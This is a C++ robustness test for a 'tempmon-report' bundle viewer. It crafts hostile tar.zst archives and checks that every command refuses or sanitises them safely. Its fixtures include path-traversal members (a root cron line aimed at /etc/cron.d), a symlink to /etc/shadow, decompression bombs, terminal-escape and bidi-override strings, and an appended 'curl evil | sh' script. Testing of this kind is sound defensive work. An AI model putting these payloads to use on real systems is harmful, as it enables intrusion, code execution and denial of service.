// reports_hostile: a corpus of hostile bundles, built here byte by byte,
// and every tempmon-report command run on each one as a user would (a child
// process of the real binary). For each run: the exit status is the
// expected one and a failure says so in one line; it ends within 10 s and
// under 512 MB of peak RSS (getrusage of the child); nothing it prints holds
// a byte a terminal would act on; no sanitizer report; nothing is written
// beside the output it was asked for.
//
// usage: reports_hostile TEMPMON_REPORT WORKDIR
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "craft.h"
#include "tempmon/bundle/members_json.h"
#include "tempmon/bundle/samples_csv.h"
#include "tempmon/bundle/sha256.h"
#include "synth.h"
#include "tempmon/tool/exit_status.h"

namespace fs = std::filesystem;
using namespace tempmon::bundle;
using namespace tempmon::bundle::test;
namespace tool = tempmon::tool;

extern char** environ;

namespace {

constexpr double kMaxWallS = 10;
constexpr long kMaxRssKb = 512 * 1024;
// A run past this is killed (a FIFO would otherwise block forever).
constexpr double kKillAfterS = 30;

// The head of the long kernel-log lines: a real Xid the viewer must find.
constexpr const char* kLongLineXid = "NVRM: Xid (PCI:0000:3b:00): 79, pid=0, GPU has fallen off the bus. ";

// What a run must end in: one of these exit statuses.
using Want = std::set<int>;
const Want kOk{0};
const Want kRefused{tool::kExitUnreadable, tool::kExitTampered};  // never 1 (internal error)
const Want kTampered{tool::kExitTampered};
const Want kUnreadable{tool::kExitUnreadable};
// Legal input whose times a page cannot place (e.g. a trigger past 2262).
const Want kOkOrOutOfRange{0, tool::kExitUnreadable};

struct Case {
  std::string name;
  std::string path;             // the bundle (a file written here, or a FIFO, folder, device)
  Want want;                    // every command
  std::map<std::string, Want> per_command = {};  // exceptions by command
  std::string must_say = {};    // a refusal's message must contain this
};

struct Run {
  int rc = -1;
  bool killed = false;
  double wall_s = 0;
  long rss_kb = 0;
  std::string out, err;
};

Run Spawn(const std::vector<std::string>& argv) {
  int po[2], pe[2];
  if (::pipe2(po, O_CLOEXEC) != 0 || ::pipe2(pe, O_CLOEXEC) != 0) throw std::runtime_error("pipe2");
  posix_spawn_file_actions_t fa;
  posix_spawn_file_actions_init(&fa);
  posix_spawn_file_actions_adddup2(&fa, po[1], 1);
  posix_spawn_file_actions_adddup2(&fa, pe[1], 2);
  posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
  std::vector<char*> args;
  for (const std::string& a : argv) args.push_back(const_cast<char*>(a.c_str()));
  args.push_back(nullptr);
  auto t0 = std::chrono::steady_clock::now();
  pid_t pid;
  if (posix_spawn(&pid, args[0], &fa, nullptr, args.data(), environ) != 0) throw std::runtime_error("spawn");
  posix_spawn_file_actions_destroy(&fa);
  ::close(po[1]);
  ::close(pe[1]);
  Run r;
  pollfd fds[2] = {{po[0], POLLIN, 0}, {pe[0], POLLIN, 0}};
  std::string* sinks[2] = {&r.out, &r.err};
  int open_fds = 2;
  auto elapsed = [&] { return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count(); };
  while (open_fds > 0) {
    double left = kKillAfterS - elapsed();
    if (left <= 0 && !r.killed) {
      ::kill(pid, SIGKILL);
      r.killed = true;
    }
    int n = ::poll(fds, 2, left > 0 ? static_cast<int>(left * 1000) + 1 : 1000);
    if (n < 0 && errno == EINTR) continue;
    for (int k = 0; k < 2; ++k) {
      if (fds[k].fd < 0 || !(fds[k].revents & (POLLIN | POLLHUP | POLLERR))) continue;
      char buf[65536];
      ssize_t got = ::read(fds[k].fd, buf, sizeof buf);
      if (got > 0) {
        // Enough to judge; a run must not fill this process's memory.
        if (sinks[k]->size() < (64u << 20)) sinks[k]->append(buf, static_cast<size_t>(got));
      } else {
        ::close(fds[k].fd);
        fds[k].fd = -1;
        --open_fds;
      }
    }
  }
  int status = 0;
  rusage ru{};
  ::wait4(pid, &status, 0, &ru);
  r.wall_s = elapsed();
  r.rss_kb = ru.ru_maxrss;
  r.rc = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
  return r;
}

// An independent check (not the viewer's own filter): `s` is valid UTF-8
// holding no C0 control but '\n', no DEL, no C1 control, no bidirectional
// control and no line/paragraph separator. Returns what it found first.
std::string TerminalHazard(const std::string& s) {
  for (size_t i = 0; i < s.size();) {
    unsigned char c = static_cast<unsigned char>(s[i]);
    uint32_t cp;
    size_t n;
    if (c < 0x80) cp = c, n = 1;
    else if (c >= 0xc2 && c <= 0xdf) cp = c & 0x1f, n = 2;
    else if (c >= 0xe0 && c <= 0xef) cp = c & 0x0f, n = 3;
    else if (c >= 0xf0 && c <= 0xf4) cp = c & 0x07, n = 4;
    else return "byte 0x" + std::to_string(c) + " at " + std::to_string(i) + " is not UTF-8";
    if (i + n > s.size()) return "truncated UTF-8 at " + std::to_string(i);
    for (size_t k = 1; k < n; ++k) {
      unsigned char d = static_cast<unsigned char>(s[i + k]);
      if ((d & 0xc0) != 0x80) return "bad UTF-8 at " + std::to_string(i);
      cp = (cp << 6) | (d & 0x3f);
    }
    bool bad = (cp < 0x20 && cp != '\n') || (cp >= 0x7f && cp <= 0x9f) || cp == 0x61c || cp == 0x200e ||
               cp == 0x200f || (cp >= 0x2028 && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069);
    if (bad) {
      char buf[64];
      std::snprintf(buf, sizeof buf, "U+%04X at byte %zu", cp, i);
      return buf;
    }
    i += n;
  }
  return {};
}

// Runs the commands from a helper forked before the corpus is built: a
// child's peak RSS (ru_maxrss) counts the address space it was spawned
// from, and this process holds hundreds of MB of corpus at times.
class Spawner {
 public:
  Spawner() {
    int rq[2], rs[2];
    if (::pipe(rq) != 0 || ::pipe(rs) != 0) throw std::runtime_error("pipe");
    pid_ = ::fork();
    if (pid_ < 0) throw std::runtime_error("fork");
    if (pid_ == 0) {
      ::close(rq[1]);
      ::close(rs[0]);
      Serve(rq[0], rs[1]);
      ::_exit(0);
    }
    ::close(rq[0]);
    ::close(rs[1]);
    req_ = rq[1];
    resp_ = rs[0];
  }
  ~Spawner() {
    ::close(req_);
    ::close(resp_);
    ::waitpid(pid_, nullptr, 0);
  }
  Run operator()(const std::vector<std::string>& argv) {
    std::string msg;
    PutU64(msg, argv.size());
    for (const std::string& a : argv) PutU64(msg, a.size()), msg += a;
    WriteAll(req_, msg);
    Run r;
    r.rc = static_cast<int>(GetU64(resp_));
    r.killed = GetU64(resp_) != 0;
    r.wall_s = static_cast<double>(GetU64(resp_)) / 1e6;
    r.rss_kb = static_cast<long>(GetU64(resp_));
    r.out = GetStr(resp_);
    r.err = GetStr(resp_);
    return r;
  }

 private:
  static void PutU64(std::string& s, uint64_t v) { s.append(reinterpret_cast<const char*>(&v), sizeof v); }
  static void WriteAll(int fd, const std::string& s) {
    for (size_t off = 0; off < s.size();) {
      ssize_t n = ::write(fd, s.data() + off, s.size() - off);
      if (n <= 0) throw std::runtime_error("spawner: write");
      off += static_cast<size_t>(n);
    }
  }
  // False at a clean end of the stream.
  static bool ReadAll(int fd, char* p, size_t n) {
    for (size_t off = 0; off < n;) {
      ssize_t got = ::read(fd, p + off, n - off);
      if (got == 0 && off == 0) return false;
      if (got <= 0) throw std::runtime_error("spawner: read");
      off += static_cast<size_t>(got);
    }
    return true;
  }
  static uint64_t GetU64(int fd) {
    uint64_t v = 0;
    if (!ReadAll(fd, reinterpret_cast<char*>(&v), sizeof v)) throw std::runtime_error("spawner: closed");
    return v;
  }
  static std::string GetStr(int fd) {
    std::string s(GetU64(fd), '\0');
    if (!s.empty() && !ReadAll(fd, s.data(), s.size())) throw std::runtime_error("spawner: closed");
    return s;
  }
  static void Serve(int in, int out) {
    for (;;) {
      uint64_t argc = 0;
      if (!ReadAll(in, reinterpret_cast<char*>(&argc), sizeof argc)) return;
      std::vector<std::string> argv;
      for (uint64_t k = 0; k < argc; ++k) argv.push_back(GetStr(in));
      Run r = Spawn(argv);
      std::string msg;
      PutU64(msg, static_cast<uint64_t>(r.rc));
      PutU64(msg, r.killed);
      PutU64(msg, static_cast<uint64_t>(r.wall_s * 1e6));
      PutU64(msg, static_cast<uint64_t>(r.rss_kb));
      PutU64(msg, r.out.size()), msg += r.out;
      PutU64(msg, r.err.size()), msg += r.err;
      WriteAll(out, msg);
    }
  }
  pid_t pid_ = -1;
  int req_ = -1, resp_ = -1;
};

void WriteFile(const std::string& path, const std::string& bytes) {
  std::ofstream f(path, std::ios::binary | std::ios::trunc);
  f.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
  if (!f) throw std::runtime_error("cannot write " + path);
}

// The valid bundle's tar, uncompressed (for archives that go on after it).
std::string PlainTar(const std::map<std::string, std::string>& m) {
  std::string t;
  auto add = [&](const std::string& name, const std::string& data) {
    t += TarHeader(name, data.size()) + data + TarPad(data.size());
  };
  add("manifest.json", m.at("manifest.json"));
  for (const auto& [n, d] : m)
    if (n != "manifest.json") add(n, d);
  return t;
}

// Every string field of a bundle, with what a terminal must never get raw.
const std::string kEvil =
    "x\x1b]0;owned\x07\x1b[2J\x1b[31m\r\b\x7f"
    "\xc2\x9b" "31m\xc2\x9d" "0;t\xc2\x9c"   // C1: CSI, OSC, ST
    "\xe2\x80\xae" "gpj.exe\xe2\x80\xac"     // RLO .. PDF
    "\xe2\x81\xa6" "iso\xe2\x81\xa9\xe2\x80\xa8" "end";

std::string ManifestWith(const std::map<std::string, std::string>& m,
                         const std::function<void(nlohmann::json&)>& edit) {
  nlohmann::json man = nlohmann::json::parse(m.at("manifest.json"));
  edit(man);
  return man.dump(2);
}

std::string CsvWith(const std::vector<std::string>& rows) {
  std::string s = std::string(kSamplesHeader) + "\n";
  for (const std::string& r : rows) s += r + "\n";
  return s;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) {
    std::fprintf(stderr, "usage: %s TEMPMON_REPORT WORKDIR\n", argv[0]);
    return 64;
  }
  Spawner spawn;  // first, while this process is small
  const std::string report = argv[1];
  const fs::path w = argv[2];
  fs::remove_all(w);
  fs::create_directories(w / "corpus");
  const std::string valid_bytes = Serialize(SynthContents(300));
  const auto valid = Members(valid_bytes);
  std::vector<Case> cases;
  auto add = [&](const std::string& name, const std::string& bytes, Want want,
                 std::map<std::string, Want> per = {}, std::string must = {}) {
    std::string p = (w / "corpus" / (name + ".tar.zst")).string();
    WriteFile(p, bytes);
    cases.push_back({name, p, std::move(want), std::move(per), std::move(must)});
  };
  auto with = [&](std::map<std::string, std::string> changes, bool fix_manifest = true) {
    auto m = valid;
    for (auto& [k, v] : changes) m[k] = v;
    return Repack(m, fix_manifest);
  };
  const std::string valid_path = (w / "corpus" / "valid.tar.zst").string();

  // --- legal input: every command succeeds.
  add("valid", valid_bytes, kOk);
  {
    Contents c = SynthContents(300);
    Redact(c);
    add("redacted", Serialize(c), kOk);
  }

  // --- file types at the entry point.
  {
    std::string fifo = (w / "corpus" / "fifo.tar.zst").string();
    ::mkfifo(fifo.c_str(), 0600);
    cases.push_back({"fifo", fifo, kUnreadable, {}, "FIFO"});
    std::string dir = (w / "corpus" / "folder.tar.zst").string();
    fs::create_directories(dir);
    cases.push_back({"folder", dir, kUnreadable, {}, "is a folder"});
    cases.push_back({"dev-zero", "/dev/zero", kUnreadable, {}, "is a device"});
    cases.push_back({"dev-null", "/dev/null", kUnreadable, {}, "is a device"});
  }

  // --- names, types, duplicates.
  auto plus = [&](Entry extra) {
    std::vector<Entry> e = {{"manifest.json", valid.at("manifest.json")}, extra};
    for (const auto& [n, d] : valid)
      if (n != "manifest.json") e.push_back({n, d});
    return Craft(e);
  };
  add("traversal-dotdot", plus({"../../etc/cron.d/x", "* * * * * root sh"}), kUnreadable, {}, "unsafe name");
  add("traversal-absolute", plus({"/etc/passwd", "x"}), kUnreadable, {}, "unsafe name");
  // By hand: libarchive will not write a name that is not valid in its locale.
  add("name-with-escapes",
      ZstdFrame(TarHeader("a\x1b]0;owned\x07\xc2\x9b" "2J\x9b", 1) + "x" + TarPad(1) + PlainTar(valid) + TarEnd()),
      kUnreadable, {}, "unsafe name");
  add("symlink", plus({"link", "", 0120000, "/etc/shadow"}), kUnreadable, {}, "links are refused");
  add("hardlink", plus({"hard", "", 0100000, "samples.csv", true}), kUnreadable, {}, "links are refused");
  add("device", plus({"dev", "", 0020000}), kUnreadable, {}, "not a regular file");
  add("duplicate-member", plus({"samples.csv", "x"}), kUnreadable, {}, "duplicate member");
  {
    std::vector<Entry> e = {{"manifest.json", valid.at("manifest.json")}};
    for (int k = 0; k < 70; ++k) e.push_back({"m" + std::to_string(k), "x"});
    add("too-many-members", Craft(e), kUnreadable, {}, "members");
  }

  // --- sizes: bombs, sparse claims, lying headers.
  {
    // 16 GiB of zeros in 0.5 MB, claimed by one member's header.
    add("bomb-16g-declared", ZstdZeros(16ull << 30, TarHeader("samples.csv", 16ull << 30)), kUnreadable, {},
        "exceeds the limit");
    // The valid archive, then 16 GiB of zeros in the same zstd frame.
    add("bomb-16g-after-tar", ZstdZeros(16ull << 30, PlainTar(valid) + TarEnd()), kUnreadable, {},
        "decompression bomb");
    // A member declaring 300 MiB (under the samples.csv cap) of zeros: read,
    // held within the memory budget, then refused by its checksum.
    add("bomb-300m-member",
        ZstdZeros(300ull << 20, TarHeader("manifest.json", valid.at("manifest.json").size()) +
                                    valid.at("manifest.json") + TarPad(valid.at("manifest.json").size()) +
                                    TarHeader("samples.csv", 300ull << 20)),
        kRefused);
    // Four sparse members claiming 1 GiB each.
    std::string t = TarHeader("manifest.json", valid.at("manifest.json").size()) + valid.at("manifest.json") +
                    TarPad(valid.at("manifest.json").size());
    for (const char* n : {"samples.csv", "events.jsonl", "kmsg.jsonl", "system.json"})
      t += GnuSparseHeader(n, 512, 1ull << 30) + std::string(512, '0');
    add("sparse-4x1g", ZstdFrame(t + TarEnd()), kUnreadable, {}, "sparse");
    // A pax header claiming a size the data does not have.
    add("pax-size-lie",
        ZstdFrame(PaxHeader("samples.csv", {"size=1073741824"}) + TarHeader("samples.csv", 0) + TarEnd()),
        kUnreadable, {}, "exceeds the limit");
    // 1 GiB JSON array of zeros, declared.
    add("json-1g-zeros-declared",
        ZstdRepeat(TarHeader("events.jsonl", 2 * (512ull << 20) + 1) + "[", "0,", 512ull << 20, "0]"),
        kUnreadable, {}, "exceeds the limit");
    // 1 GB single CSV line, declared.
    add("csv-1g-line-declared", ZstdRepeat(TarHeader("samples.csv", 1000000000ull), "9", 1000000000ull, ""),
        kUnreadable, {}, "exceeds the limit");
  }
  // Under the caps, with a manifest that matches: the parsers' own budgets.
  {
    // 16 MiB of JSON (the cap of a member) as 8M zeros: stopped by the
    // count of JSON values, long before its memory.
    std::string zeros = "[";
    for (size_t k = 0; k < (8u << 20) - 2; ++k) zeros += "0,";
    zeros += "0]";
    add("json-16m-zeros-system", with({{"system.json", zeros}}), kUnreadable, {}, "JSON values");
    add("json-16m-zeros-line", with({{"events.jsonl", zeros + "\n"}}), kUnreadable, {}, "longer than");
    std::string line(300u << 20, '7');
    add("csv-300m-line", with({{"samples.csv", std::string(kSamplesHeader) + "\n" + line + "\n"}}), kUnreadable,
        {}, "longer than");
    std::string kmsg;
    for (int k = 0; k < 5000; ++k)
      kmsg += "{\"seq\":" + std::to_string(k) + ",\"level\":6,\"facility\":0,\"ts_us\":1,\"text\":\"" +
              std::string(200, 'k') + "\"}\n";
    add("kmsg-1m-legal", with({{"kmsg.jsonl", kmsg}}), kOk);
    // One kernel-log line of 60 KiB, one of about 1 MB (under the 1 MiB
    // line limit): kernel-log matching must not recurse per character.
    for (const auto& [name, n] : {std::pair<std::string, size_t>{"kmsg-60k-line", 60u << 10},
                                  std::pair<std::string, size_t>{"kmsg-1m-line", 1000000}}) {
      const std::string text = std::string(kLongLineXid) + std::string(n, 'a');
      add(name, with({{"kmsg.jsonl", nlohmann::json({{"seq", 1}, {"level", 3}, {"facility", 0}, {"ts_us", 5},
                                                     {"text", text}}).dump() + "\n"}}),
          kOk);
    }
  }

  // --- times at the ends of int64 and beyond.
  {
    auto rows = [](const std::vector<std::pair<std::string, std::string>>& wall_mono) {
      std::vector<std::string> r;
      uint64_t seq = 1;
      for (const auto& [wall, mono] : wall_mono)
        r.push_back(wall + "," + mono + "," + std::to_string(seq++) + ",0,cpu0,50000,0x0000,");
      return CsvWith(r);
    };
    const std::string kMin = "1677-09-21T00:12:43.145224192Z", kMax = "2262-04-11T23:47:16.854775807Z";
    add("wall-int64-edges", with({{"samples.csv", rows({{kMin, "1000"}, {kMax, "2000"}})}}), kOk,
        {{"html", kOkOrOutOfRange}});
    add("wall-past-int64-max",
        with({{"samples.csv", rows({{"2262-04-11T23:47:16.000000000Z", "1"}, {"2262-04-11T23:47:16.854775808Z", "2"}})}}),
        kUnreadable, {}, "wall_time out of range");
    add("wall-before-int64-min", with({{"samples.csv", rows({{"1677-09-21T00:12:43.145224191Z", "1"}})}}),
        kUnreadable, {}, "wall_time out of range");
    add("mono-2^64-1", with({{"samples.csv", rows({{kMax, "18446744073709551615"}})}}), kUnreadable, {},
        "ts_ns out of range");
    add("mono-2^63-1", with({{"samples.csv", rows({{kMax, "9223372036854775807"}, {kMin, "0"}})}}), kOk,
        {{"html", kOkOrOutOfRange}});
    auto man = [&](const std::function<void(nlohmann::json&)>& edit) {
      auto m = valid;
      m["manifest.json"] = ManifestWith(valid, edit);
      return Repack(m, false);  // the manifest lists the others, not itself
    };
    add("manifest-extremes", man([](nlohmann::json& j) {
          j["trigger"]["wall_ns"] = INT64_MIN;
          j["trigger"]["ts_ns"] = INT64_MAX;
          j["window"]["start_mono_ns"] = 0;
          j["window"]["end_mono_ns"] = INT64_MAX;
        }),
        kOk, {{"html", kOkOrOutOfRange}});
    add("manifest-mono-2^64-1", man([](nlohmann::json& j) { j["trigger"]["ts_ns"] = UINT64_MAX; }), kUnreadable,
        {}, "out of range");
    add("manifest-member-size-2^64-1", man([](nlohmann::json& j) { j["members"][0]["size"] = UINT64_MAX; }),
        kTampered);
    add("kmsg-ts-2^64-1",
        with({{"kmsg.jsonl", "{\"seq\":1,\"level\":3,\"facility\":0,\"ts_us\":18446744073709551615,\"text\":\"x\"}\n"}}),
        kUnreadable, {}, "out of range");
  }

  // --- terminal escapes in every string field, and echoed in errors.
  {
    auto m = valid;
    nlohmann::json man = nlohmann::json::parse(m.at("manifest.json"));
    for (const char* k : {"tool_version", "module_version", "host", "kernel", "boot_id"}) man[k] = kEvil;
    man["trigger"]["kind"] = kEvil;
    man["trigger"]["reason"] = kEvil;
    for (auto& s : man["sensors"]) s["name"] = kEvil + s["name"].get<std::string>(), s["kind"] = kEvil;
    for (auto& k : man["collectors"]) k["name"] = kEvil, k["status"] = kEvil, k["message"] = kEvil;
    m["manifest.json"] = man.dump();
    nlohmann::json ep = {{"cause", kEvil}, {"zone", kEvil}, {"start_ns", 1}, {"end_ns", 0}, {"peak_mc", 90000},
                         {"max_cooling_state", kEvil}, {"min_max_freq_khz", kEvil},
                         {"steps", {{{"t_ns", 2}, {"kind", kEvil}, {"detail", kEvil}}}}};
    m["episodes.jsonl"] = ep.dump() + "\n";
    m["events.jsonl"] = nlohmann::json({{"t_ns", 3}, {"kind", kEvil}, {"detail", kEvil}}).dump() + "\n";
    m["kmsg.jsonl"] = "";
    for (const std::string& text : {"NVRM: Xid (PCI:0000:01:00): 79, pid=1, " + kEvil,
                                    "watchdog: BUG: soft lockup - CPU#3 stuck for 22s! [" + kEvil + "]", kEvil})
      m["kmsg.jsonl"] += nlohmann::json({{"seq", 1}, {"level", 2}, {"facility", 0}, {"ts_us", 5}, {"text", text}}).dump() + "\n";
    m["system.json"] = nlohmann::json({{"hostname", kEvil}, {kEvil, kEvil}}).dump();
    m["summary.txt"] = kEvil + "\n";
    // Row names are for humans only; a raw escape and a raw C1 byte there too.
    std::string csv = m.at("samples.csv");
    size_t at = csv.find(",cpu0,");
    if (at != std::string::npos) csv.replace(at, 6, ",\x1b[2J\x9b" "cpu0,");
    m["samples.csv"] = csv;
    add("escapes-everywhere", Repack(m, true), kOk);
    add("escape-in-csv-error",
        with({{"samples.csv", CsvWith({"2026-11-18T11:06:40.001000000Z,\x1b]0;owned\x07\xc2\x9b" "2J,1,0,cpu0,1,0x0000,"})}}),
        kUnreadable, {}, "bad ts_ns");
    add("escape-in-flag-names-error",
        with({{"samples.csv", CsvWith({"2026-11-18T11:06:40.001000000Z,1,1,0,cpu0,1,0x0000,\x1b[6n\xe2\x80\xae"})}}),
        kUnreadable, {}, "do not match");
    add("escape-in-json-error", with({{"system.json", "{\"a\": \x1b]0;owned\x07\xc2\x9b}"}}), kUnreadable, {},
        "malformed JSON");
    auto m2 = valid;
    m2["manifest.json"] = ManifestWith(valid, [](nlohmann::json& j) { j["members"][0]["name"] = kEvil; });
    add("escape-in-manifest-member-name", Repack(m2, false), kUnreadable, {}, "invalid name");
  }

  // --- data after the archive.
  {
    add("appended-zstd-frame", valid_bytes + Craft({{"hidden.sh", "curl evil | sh\n"}}), kTampered,
        {}, "after the archive");
    add("appended-in-frame", ZstdFrame(PlainTar(valid) + TarEnd() + TarHeader("hidden.sh", 5) + "boom\n" +
                                       TarPad(5) + TarEnd()),
        kTampered, {}, "after the end of the tar archive");
    add("appended-skippable-frame", valid_bytes + ZstdSkippable("hidden"), kTampered, {}, "after the archive");
    add("appended-garbage", valid_bytes + "garbage", kTampered, {}, "after the archive");
    add("tar-padding-zeros", ZstdFrame(PlainTar(valid) + TarEnd() + std::string(9216, '\0')), kOk);
  }

  // --- damaged.
  {
    add("truncated-half", valid_bytes.substr(0, valid_bytes.size() / 2), kUnreadable);
    add("truncated-tail", valid_bytes.substr(0, valid_bytes.size() - 3), kUnreadable);
    add("not-zstd", "hello, world", kUnreadable, {}, "not a tar.zst");
    add("deep-json", with({{"events.jsonl", std::string(5000, '[') + std::string(5000, ']') + "\n"}}), kUnreadable,
        {}, "nested deeper");
  }

  // --- run every command on every case.
  const std::vector<std::string> commands = {"show", "verify", "html", "export-json", "export-csv", "redact", "diff"};
  int failures = 0;
  double worst_wall = 0;
  long worst_rss = 0;
  std::printf("%-32s %-12s %4s %8s %8s  %s\n", "case", "command", "rc", "wall s", "RSS MB", "result");
  for (const Case& c : cases) {
    for (const std::string& cmd : commands) {
      fs::path out = w / "out" / (c.name + "-" + cmd);
      fs::remove_all(out);
      fs::create_directories(out);
      std::vector<std::string> argv = {report};
      std::string expected_output;
      if (cmd == "show") argv.insert(argv.end(), {"show", c.path});
      if (cmd == "verify") argv.insert(argv.end(), {"verify", c.path});
      if (cmd == "html") argv.insert(argv.end(), {"html", c.path, "-o", (out / "r.html").string()}), expected_output = "r.html";
      if (cmd == "export-json") argv.insert(argv.end(), {"export", c.path, "--json", "-o", "-"});
      if (cmd == "export-csv") argv.insert(argv.end(), {"export", c.path, "--csv", "-o", "-"});
      if (cmd == "redact") argv.insert(argv.end(), {"redact", c.path, "-o", (out / "r.tar.zst").string()}), expected_output = "r.tar.zst";
      if (cmd == "diff") argv.insert(argv.end(), {"diff", c.path, valid_path});
      Run r = spawn(argv);
      const Want& want = c.per_command.count(cmd) ? c.per_command.at(cmd) : c.want;
      std::vector<std::string> why;
      if (r.killed) why.push_back("killed after " + std::to_string(kKillAfterS) + " s");
      if (!want.count(r.rc)) why.push_back("exit " + std::to_string(r.rc) + " not expected");
      if (r.wall_s >= kMaxWallS) why.push_back("over " + std::to_string(kMaxWallS) + " s");
      if (r.rss_kb >= kMaxRssKb) why.push_back("RSS over 512 MB");
      for (const char* s : {"Sanitizer", "runtime error:", "internal error"})
        if (r.err.find(s) != std::string::npos) why.push_back(std::string("stderr has '") + s + "'");
      if (std::string h = TerminalHazard(r.out); !h.empty()) why.push_back("stdout: " + h);
      if (std::string h = TerminalHazard(r.err); !h.empty()) why.push_back("stderr: " + h);
      const bool verify_listing = cmd == "verify" && r.rc == tool::kExitTampered && r.err.empty();
      if (r.rc != 0 && !verify_listing) {
        size_t nl = r.err.find('\n');
        if (r.err.rfind("tempmon-report: ", 0) != 0 || nl != r.err.size() - 1)
          why.push_back("error is not one 'tempmon-report: ...' line");
        if (!c.must_say.empty() && r.err.find(c.must_say) == std::string::npos)
          why.push_back("error lacks '" + c.must_say + "'");
      }
      if (verify_listing && r.out.find("TAMPERED") == std::string::npos) why.push_back("verify lists nothing");
      if (verify_listing && !c.must_say.empty() && r.out.find(c.must_say) == std::string::npos)
        why.push_back("verify lacks '" + c.must_say + "'");
      // Writes: only the output asked for, and only on success.
      std::vector<std::string> written;
      for (const auto& e : fs::directory_iterator(out)) written.push_back(e.path().filename().string());
      bool wrote_ok = r.rc == 0 ? (expected_output.empty() ? written.empty()
                                                           : written == std::vector<std::string>{expected_output})
                                : written.empty();
      if (!wrote_ok) why.push_back("wrote " + std::to_string(written.size()) + " unexpected file(s)");
      worst_wall = std::max(worst_wall, r.wall_s);
      worst_rss = std::max(worst_rss, r.rss_kb);
      std::string verdict = "ok";
      if (!why.empty()) {
        ++failures;
        verdict = "FAIL:";
        for (const std::string& s : why) verdict += " " + s + ";";
        std::string first = r.err.substr(0, r.err.find('\n'));
        verdict += " stderr: " + first.substr(0, 300);
      }
      std::printf("%-32s %-12s %4d %8.2f %8.1f  %s\n", c.name.c_str(), cmd.c_str(), r.rc, r.wall_s,
                  static_cast<double>(r.rss_kb) / 1024, verdict.c_str());
      std::fflush(stdout);
    }
  }
  // The budget options reach the reader: a smaller budget refuses what the
  // default reads, and says which option widens it.
  {
    const std::string kmsg_case = (w / "corpus" / "kmsg-1m-legal.tar.zst").string();
    Run small = spawn({report, "show", "--max-mb", "16", kmsg_case});
    Run fine = spawn({report, "show", "--max-mb", "16", valid_path});
    Run bad = spawn({report, "verify", "--max-mb", "1", valid_path});
    bool ok = small.rc == tool::kExitUnreadable && small.err.find("kmsg.jsonl: member of") != std::string::npos &&
              fine.rc == 0 && bad.rc == tool::kExitUsage;
    std::printf("%-32s %-12s %4d %8.2f %8.1f  %s\n", "budget options", "show/verify", small.rc, small.wall_s,
                static_cast<double>(small.rss_kb) / 1024, ok ? "ok" : ("FAIL: " + small.err + fine.err + bad.err).c_str());
    failures += !ok;
  }
  // The long kernel-log lines through show and fleet: read, matched (the
  // Xid at their head is a finding) and counted, not a crash.
  {
    const fs::path dir = w / "fleet-long-lines";
    fs::create_directories(dir);
    for (const char* name : {"kmsg-60k-line", "kmsg-1m-line"}) {
      const fs::path bundle = w / "corpus" / (std::string(name) + ".tar.zst");
      fs::copy_file(bundle, dir / ("tempmon-" + std::string(name) + ".tar.zst"));
      Run show = spawn({report, "show", bundle.string()});
      bool ok = show.rc == 0 && show.out.find("Xid 79") != std::string::npos &&
                show.err.find("Sanitizer") == std::string::npos;
      std::printf("%-32s %-12s %4d %8.2f %8.1f  %s\n", name, "show Xid", show.rc, show.wall_s,
                  static_cast<double>(show.rss_kb) / 1024, ok ? "ok" : ("FAIL: " + show.err.substr(0, 300)).c_str());
      failures += !ok;
    }
    Run fleet = spawn({report, "fleet", dir.string()});
    bool ok = fleet.rc == 0 && fleet.err.find("Sanitizer") == std::string::npos &&
              fleet.err.find("runtime error:") == std::string::npos;
    std::printf("%-32s %-12s %4d %8.2f %8.1f  %s\n", "long kmsg lines", "fleet", fleet.rc, fleet.wall_s,
                static_cast<double>(fleet.rss_kb) / 1024, ok ? "ok" : ("FAIL: " + fleet.err.substr(0, 300)).c_str());
    failures += !ok;
  }
  std::printf("\n%zu cases x %zu commands: %d failure(s); slowest run %.2f s, largest RSS %.1f MB\n", cases.size(),
              commands.size(), failures, worst_wall, static_cast<double>(worst_rss) / 1024);
  fs::remove_all(w / "corpus");
  return failures ? 1 : 0;
}
